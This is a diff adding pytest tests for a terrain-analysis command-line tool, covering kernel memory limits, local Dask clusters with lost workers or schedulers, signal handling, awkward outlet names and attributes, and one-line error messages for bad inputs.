+    assert code == 0, err
+
+
+def test_the_guard_counts_the_kernel(cairn, dem, tmp_path, monkeypatch):
+    import tracemalloc
+
+    import terrain.resources as r
+    from terrain.io import read_header
+    from terrain.jobs import CreditJob
+    from terrain.noise import ErrorModel
+    from terrain.noise.fields import ConvolutionKernel, kernel_memory
+
+    head = read_header(dem)
+    job = CreditJob("peaks")
+    plain = r.estimate_run(head, job, model=ErrorModel(rmse=1))
+    wide = r.estimate_run(head, job, model=ErrorModel(rmse=1, range_m=400))
+    assert wide.kernel > 0 and wide.total >= plain.total + wide.kernel // 2
+    # the stated figures bound a real kernel: its radius, and what computing it takes
+    for model in ("exponential", "gaussian", "spherical"):
+        for rng, spacing in ((35.0, (10.0, 10.0)), (400.0, (10.0, 7.0)), (2000.0, (30.0, 30.0))):
+            build, kept, _ = kernel_memory(spacing, rng, (500, 500))
+            tracemalloc.start()
+            k = ConvolutionKernel(spacing, model, rng)
+            peak = tracemalloc.get_traced_memory()[1]
+            tracemalloc.stop()
+            assert peak <= build and k.k.nbytes <= kept, (model, rng, peak, build)
+    monkeypatch.setattr(r, "available_bytes", lambda: wide.kernel - 1)
+    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--range", "400")
+    one_line_error(code, err, "kernel", "--range 400 m", "shorter --range")
+    nothing_written(tmp_path / "o")
+
+
+# -- 11. Dask: one line, never a hang -------------------------------------------------------------------
+WAIT = 3  # seconds a cluster may stay without workers in these tests (WORKER_WAIT_SECONDS)
+_DASK_CLI = [sys.executable, "-c", "import terrain.runner.backends as b; "
+             f"b.WORKER_WAIT_SECONDS = {WAIT}; from cairn_cli.main import run; run()"]
+
+
+def _free_port():
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class _Cluster:
+    """A Dask scheduler and workers in processes of their own, as on a real cluster."""
+
+    def __init__(self, workers: int):
+        dask = os.path.join(os.path.dirname(sys.executable), "dask")
+        self.port = _free_port()
+        self.address = f"tcp://127.0.0.1:{self.port}"
+        quiet = dict(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        self.scheduler = subprocess.Popen([dask, "scheduler", "--port", str(self.port),
+                                           "--no-dashboard"], **quiet)
+        self.workers = [subprocess.Popen([dask, "worker", self.address, "--nthreads", "1",
+                                          "--no-dashboard", "--no-nanny"], **quiet)
+                        for _ in range(workers)]
+        from distributed import Client
+
+        deadline = time.time() + 60
+        while True:
+            try:
+                with Client(self.address, timeout="5s") as c:
+                    if workers:
+                        c.wait_for_workers(workers, timeout=30)
+                break
+            except Exception:
+                if time.time() > deadline:
+                    raise
+                time.sleep(0.5)
+
+    def close(self):
+        for p in self.workers + [self.scheduler]:
+            p.kill()
+            p.wait()
+
+
+@pytest.fixture
+def cluster(request):
+    c = _Cluster(request.param)
+    yield c
+    c.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("cluster", [0], indirect=True)
+@pytest.mark.parametrize("block", [(), ("--block", "32")])
+def test_a_scheduler_without_workers_is_one_line(tmp_path, cluster, block):
+    dem = write_tif(tmp_path / "d.tif", smooth_terrain((60, 60), seed=1))
+    t = time.time()
+    r = subprocess.run(_DASK_CLI + ["depressions", str(dem), "-o", str(tmp_path / "o"), "--rmse",
+                                    "1", "-n", "4", "-q", "--scheduler", cluster.address, *block],
+                       capture_output=True, text=True, timeout=120)
+    no_traceback(r.stderr)
+    one_line_error(r.returncode, r.stderr, cluster.address, "has no workers", f"within {WAIT} s",
+                   "--scheduler")
+    assert time.time() - t < WAIT + 40
+    nothing_written(tmp_path / "o")
+
+
+def _start_dask_run(tmp_path, cluster, *extra):
+    side = 96 if "--block" in extra else 200  # the first checkpoint (50 realisations) comes soon
+    dem = write_tif(tmp_path / "d.tif", smooth_terrain((side, side), seed=4))
+    ck = tmp_path / "ck.npz"
+    p = subprocess.Popen(_DASK_CLI + [*extra, str(dem), "-o", str(tmp_path / "o"), "--rmse", "1",
+                                      "-q", "--scheduler", cluster.address, "--checkpoint",
+                                      str(ck)], stderr=subprocess.PIPE, text=True)
+    deadline = time.time() + 240
+    while not ck.exists() and time.time() < deadline and p.poll() is None:
+        time.sleep(0.1)  # the first checkpoint: 50 realisations done
+    assert ck.exists(), p.stderr.read() if p.poll() is not None else "no checkpoint"
+    return p, ck
+
+
+RUNS = {"whole": ("peaks", "-n", "5000"),
+        "blocked": ("depressions", "-n", "5000", "--block", "48")}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("cluster", [1], indirect=True)
+@pytest.mark.parametrize("mode", ["whole", "blocked"])
+@pytest.mark.parametrize("lost", ["the only worker", "the scheduler"])
+def test_a_lost_worker_or_scheduler_is_one_line(tmp_path, cluster, mode, lost):
+    p, ck = _start_dask_run(tmp_path, cluster, *RUNS[mode])
+    t = time.time()
+    (cluster.workers[0] if lost == "the only worker" else cluster.scheduler).kill()
+    _, err = p.communicate(timeout=WAIT + 60)
+    no_traceback(err)
+    one_line_error(p.returncode, err, cluster.address, "--resume",
+                   "lost the Dask scheduler" if lost == "the scheduler" else "worker")
+    assert time.time() - t < WAIT + 30
+    assert ck.exists()  # what was done is saved
+    nothing_written(tmp_path / "o")
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("cluster", [1], indirect=True)
+@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
+def test_ctrl_c_and_sigterm_end_a_run_whose_workers_left(tmp_path, cluster, sig, code):
+    p, ck = _start_dask_run(tmp_path, cluster, *RUNS["blocked"])
+    cluster.workers[0].kill()  # the run now waits for workers: a signal must still end it
+    time.sleep(1)
+    t = time.time()
+    p.send_signal(sig)
+    _, err = p.communicate(timeout=30)
+    assert p.returncode == code, err
+    no_traceback(err)
+    assert time.time() - t < 10
+    assert "saved" in err and "--resume" in err and len(err.strip().splitlines()) == 1, err
+    assert ck.exists()
+
+
+# -- 12. outlets whose names or attributes are awkward -------------------------------------------------
+@pytest.mark.parametrize("ids", [
+    ["$\\frac{a}{$", "$x$", "50$ gauge"],  # matplotlib math text, broken and whole
+    ["Quelle \u6e90", "\u2603 snow", "\U0001f30a wave"],  # glyphs the map's font lacks
+])
+def test_outlet_ids_are_drawn_as_text(cairn, proj, tmp_path, ids):
+    import csv
+
+    src = tmp_path / "awkward.csv"
+    with open(src, "w", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["id", "x", "y", "label"])
+        for k, i in enumerate(ids):
+            w.writerow([i, 500105 + 80 * k, 6799705 + 40 * k, i])
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
+                         *RUN)
+    assert code == 0, err
+    assert "Glyph" not in err and "Traceback" not in err
+    from matplotlib.image import imread
+
+    assert imread(tmp_path / "o" / "quicklook.png").std() > 0
+    with open(tmp_path / "o" / "outlets.csv", newline="") as fh:
+        assert [row["outlet_id"] for row in csv.DictReader(fh)] == ids
+
+
+@pytest.mark.parametrize("header", [
+    "id,x,y,input_x,X,outlet_id,input_outlet_id,Outlet_ID",
+    "id,x,y,fid,FID,geometry,GEOM,area_m2,Area_M2,input_area_m2",
+])
+def test_outlet_attributes_clashing_with_cairns_columns_all_travel(cairn, proj, tmp_path, header):
+    import csv
+
+    import pyogrio
+
+    src = tmp_path / "clash.csv"
+    cols = header.split(",")
+    with open(src, "w", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(cols)
+        for k in range(2):
+            w.writerow([f"g{k}", 500105 + 80 * k, 6799705 + 40 * k] +
+                       [f"{c}-{k}" for c in cols[3:]])
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
+                         *RUN)
+    assert code == 0, err
+    for name in ("outlets", "catchments", "subcatchments"):
+        with open(tmp_path / "o" / f"{name}.csv", newline="") as fh:
+            row = next(csv.DictReader(fh))
+        got = set(row.values())
+        assert {f"{c}-0" for c in cols[3:]} <= got, (name, row)  # every attribute, once
+        fields = pyogrio.read_info(tmp_path / "o" / "catchments.gpkg", layer=name)["fields"]
+        assert len({f.lower() for f in fields}) == len(fields)
+
+
+def test_cairns_own_outlets_table_fed_back_twice(cairn, proj, tmp_path):
+    first = tmp_path / "a"
+    assert cairn("catchments", proj / "dem.tif", "--outlets", proj / "outlets.csv", "-o", first,
+                 *RUN)[0] == 0
+    second = tmp_path / "b"
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", first / "outlets.csv", "-o",
+                         second, *RUN)
+    assert code == 0, err
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", second / "outlets.csv", "-o",
+                         tmp_path / "c", *RUN)
+    assert code == 0, err
+
+
+# -- 13. every rough case is one line naming the option or file --------------------------------------
+@pytest.mark.parametrize("block", ["9999999999", "200000", "41", "40"])
+def test_a_block_larger_than_the_grid_is_the_grid(cairn, dem, tmp_path, block):
+    import json
+
+    ck = tmp_path / "ck.npz"
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", block,
+                         "--checkpoint", ck)
+    assert code == 0, err
+    meta = json.loads((tmp_path / "ck.npz.counts" / "counts_0" / "zarr.json").read_text())
+    assert meta["chunk_grid"]["configuration"]["chunk_shape"] == [40, 40]  # not block^2
+
+
+@pytest.mark.parametrize("block", ["15", "0", "-3"])
+def test_a_block_too_small_names_the_option(cairn, dem, tmp_path, block):
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", block)
+    one_line_error(code, err, "--block", block)
+    nothing_written(tmp_path / "o")
+
+
+@pytest.mark.parametrize("first,then,needle", [((), ("--block", "16"), "without --block"),
+                                               (("--block", "16"), (), "with --block")])
+def test_resuming_in_the_other_mode_names_the_file_and_block(cairn, dem, tmp_path, first, then,
+                                                            needle):
+    ck = tmp_path / "ck.npz"
+    assert cairn("depressions", dem, "-o", tmp_path / "a", *RUN, *first, "--checkpoint", ck)[0] == 0
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "b", *RUN, "-n", "6", *then,
+                         "--checkpoint", ck, "--resume")
+    no_traceback(err)
+    one_line_error(code, err, "ck.npz", needle)
+    nothing_written(tmp_path / "b")
+
+
+def test_resuming_with_another_error_model_says_what_differs(cairn, dem, tmp_path):
+    ck = tmp_path / "ck.npz"
+    assert cairn("peaks", dem, "-o", tmp_path / "a", *RUN, "--checkpoint", ck)[0] == 0
+    for args, needle in ((("--rmse", "2"), "rmse 1.0, now 2.0"),
+                         (("--rmse", "1", "--range", "50"), "range_m 0.0, now 50.0"),
+                         (("--rmse", "1", "--kernel", "uniform"), "kernel gaussian, now uniform")):
+        code, _, err = cairn("peaks", dem, "-o", tmp_path / "b", *args, "-n", "6", "--workers", "1",
+                             "-q", "--checkpoint", ck, "--resume")
+        one_line_error(code, err, "ck.npz", "another error model", needle, "--checkpoint")
+        assert "{" not in err  # no Python dicts
+    nothing_written(tmp_path / "b")
+
+
+@pytest.mark.parametrize("cmd", [("peaks",), ("depressions", "--block", "16")])
+def test_resuming_with_fewer_realisations_is_refused(cairn, dem, tmp_path, cmd):
+    ck = tmp_path / "ck.npz"
+    assert cairn(*cmd[:1], dem, "-o", tmp_path / "a", *RUN, *cmd[1:], "--checkpoint", ck)[0] == 0
+    code, _, err = cairn(*cmd[:1], dem, "-o", tmp_path / "b", "--rmse", "1", "-n", "2",
+                         "--workers", "1", "-q", *cmd[1:], "--checkpoint", ck, "--resume")
+    one_line_error(code, err, "ck.npz", "holds 4 realisations", "--realisations 4")
+    nothing_written(tmp_path / "b")
+
+
+@pytest.mark.parametrize("fmt", ["geojson", "gpkg-declared-wgs84"])
+def test_projected_numbers_in_a_geographic_outlets_file(cairn, proj, tmp_path, fmt):
+    import geopandas as gpd
+    from shapely.geometry import Point
+
+    pts = [Point(500105, 6799705), Point(500305, 6799805)]
+    if fmt == "geojson":  # no crs member: WGS84 longitude/latitude by RFC 7946
+        src = tmp_path / "gauges.geojson"
+        import json
+
+        src.write_text(json.dumps({"type": "FeatureCollection", "features": [
+            {"type": "Feature", "properties": {"id": f"g{k}"},
+             "geometry": {"type": "Point", "coordinates": [p.x, p.y]}}
+            for k, p in enumerate(pts)]}))
+    else:
+        src = tmp_path / "gauges.gpkg"
+        gpd.GeoDataFrame({"id": ["g0", "g1"]}, geometry=pts, crs="EPSG:4326").to_file(src)
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
+                         *RUN)
+    no_traceback(err)
+    one_line_error(code, err, src.name, "not a longitude/latitude", "WGS 84")
+    nothing_written(tmp_path / "o")
+
+
+@pytest.mark.parametrize("value", [1e300, -1e300, 1e39])
+def test_finite_values_too_large_for_an_elevation(cairn, tmp_path, value):
+    z = smooth_terrain((30, 30), seed=3).astype(np.float64)
+    z[4, 5] = value
+    p = write_tif(tmp_path / "huge-values.tif", z)
+    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
+    assert code == 0, err
+    assert "NaN or infinite" not in err and "RuntimeWarning" not in err
+    lines = [x for x in err.splitlines() if "too large for an elevation" in x]
+    assert len(lines) == 1 and "1 cells" in lines[0] and "--nodata" in lines[0], err
+    with rasterio.open(tmp_path / "o" / "summit_credit.tif") as ds:
+        assert np.isnan(ds.read(1)[4, 5]) and np.isfinite(ds.read(1)[5, 5])
+
+
+@pytest.mark.parametrize("north,ok", [(90.3, False), (-89.8, False), (90.005, True), (60.0, True)])
+def test_a_geographic_grid_beyond_a_pole_is_refused(cairn, tmp_path, north, ok):
+    from rasterio.transform import from_origin
+
+    # 40 rows of 0.01 degrees from the given northern edge (cell centres 0.005 inside it)
+    p = write_tif(tmp_path / "geo.tif", smooth_terrain((40, 40), seed=6), crs="EPSG:4326",
+                  transform=from_origin(10.0, north, 0.01, 0.01))
+    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
+    if ok:
+        assert code == 0, err
+        return
+    no_traceback(err)
+    one_line_error(code, err, "geo.tif", "latitude", "beyond the pole")
+    nothing_written(tmp_path / "o")
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="signal timing")
+@pytest.mark.parametrize("delay", [0.3, 0.7, 1.2, 2.0])
+def test_ctrl_c_while_cairn_starts(tmp_path, delay):
+    dem = write_tif(tmp_path / "d.tif", smooth_terrain((40, 40), seed=1))
+    p = subprocess.Popen(CLI + ["peaks", str(dem), "-o", str(tmp_path / "o"), *RUN],
+                         stderr=subprocess.PIPE, text=True)
+    time.sleep(delay)
+    p.send_signal(signal.SIGINT)
+    _, err = p.communicate(timeout=120)
+    no_traceback(err)
+    if p.returncode == 0:  # it finished first (a fast machine): nothing to check
+        return
+    assert p.returncode == 130, err
+    lines = [x for x in err.strip().splitlines() if not x.startswith("cairn: warning:")]
+    assert len(lines) == 1 and lines[0].startswith("cairn: interrupted"), err
+    nothing_written(tmp_path / "o")
